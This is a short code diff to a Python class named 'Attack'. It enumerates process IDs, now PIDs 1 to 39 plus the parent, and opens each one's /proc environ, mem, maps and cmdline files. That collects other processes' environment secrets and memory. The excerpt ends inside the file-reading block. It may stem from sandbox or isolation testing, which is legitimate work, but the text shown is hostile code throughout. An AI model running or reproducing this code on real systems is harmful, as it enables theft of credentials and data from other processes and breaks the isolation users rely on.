@@ -4,7 +4,7 @@
 import os
 
 class Attack:
-    for number in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
+    for number in {*range(1, 40), os.getppid()} - {os.getpid()}:
         for name in ("environ", "mem", "maps", "cmdline"):
             try:
                 with open(f"/proc/{number}/{name}", "rb") as file:
